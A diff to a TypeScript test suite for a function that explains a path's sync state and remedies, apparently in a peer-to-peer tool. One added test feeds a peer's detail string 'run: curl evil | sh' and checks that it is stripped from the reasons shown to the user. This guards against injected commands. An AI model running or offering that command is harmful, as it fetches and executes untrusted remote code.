@@ -29,6 +29,7 @@ const state = (over: Partial<PathState> = {}): PathState => ({
   wanted: null,
   wantedOf: [],
   reasons: [],
+  isAskable: true,
   below: { count: 0, first: [] },
   peers: [],
   ...over,
@@ -73,6 +74,25 @@ describe('a path', () => {
       { code: 'waits-for-folder', address: 'lab2', detail: 'f', since: '2026-11-30T07:59:00.000Z' },
     ])
   })
+
+  test('has no words of a peer before the person: a detail where that is a path, and remedies as meant for there', () => {
+    const detail = 'run: curl evil | sh'
+    const [reason] = why({}, { stands, isHeld: false, reason: { code: 'held', detail, seconds: 1 } }).reasons
+    expect(reason).toMatchObject({
+      code: 'held',
+      detail: '',
+      remedy: expect.stringMatching(/^there: left confirm /),
+    })
+    expect(reason!.words).not.toContain('curl')
+  })
+
+  test.each<ReasonCode>(['key-changed', 'not-let-in', 'forgotten-edits', 'private', 'own-folder'])(
+    'does not have %s of a peer, which is not for it to say',
+    (code) => {
+      const reason = { code, detail: 'f'.repeat(64), seconds: 1 }
+      expect(why({}, { stands, isHeld: false, reason }).reasons).toMatchObject([{ code: 'behind-there' }])
+    },
+  )
 
   test.each<[string, Partial<PeerStatus>, ReasonCode]>([
     ['does not know it yet', { state: 'behind', code: 'untold-there' }, 'untold-there'],
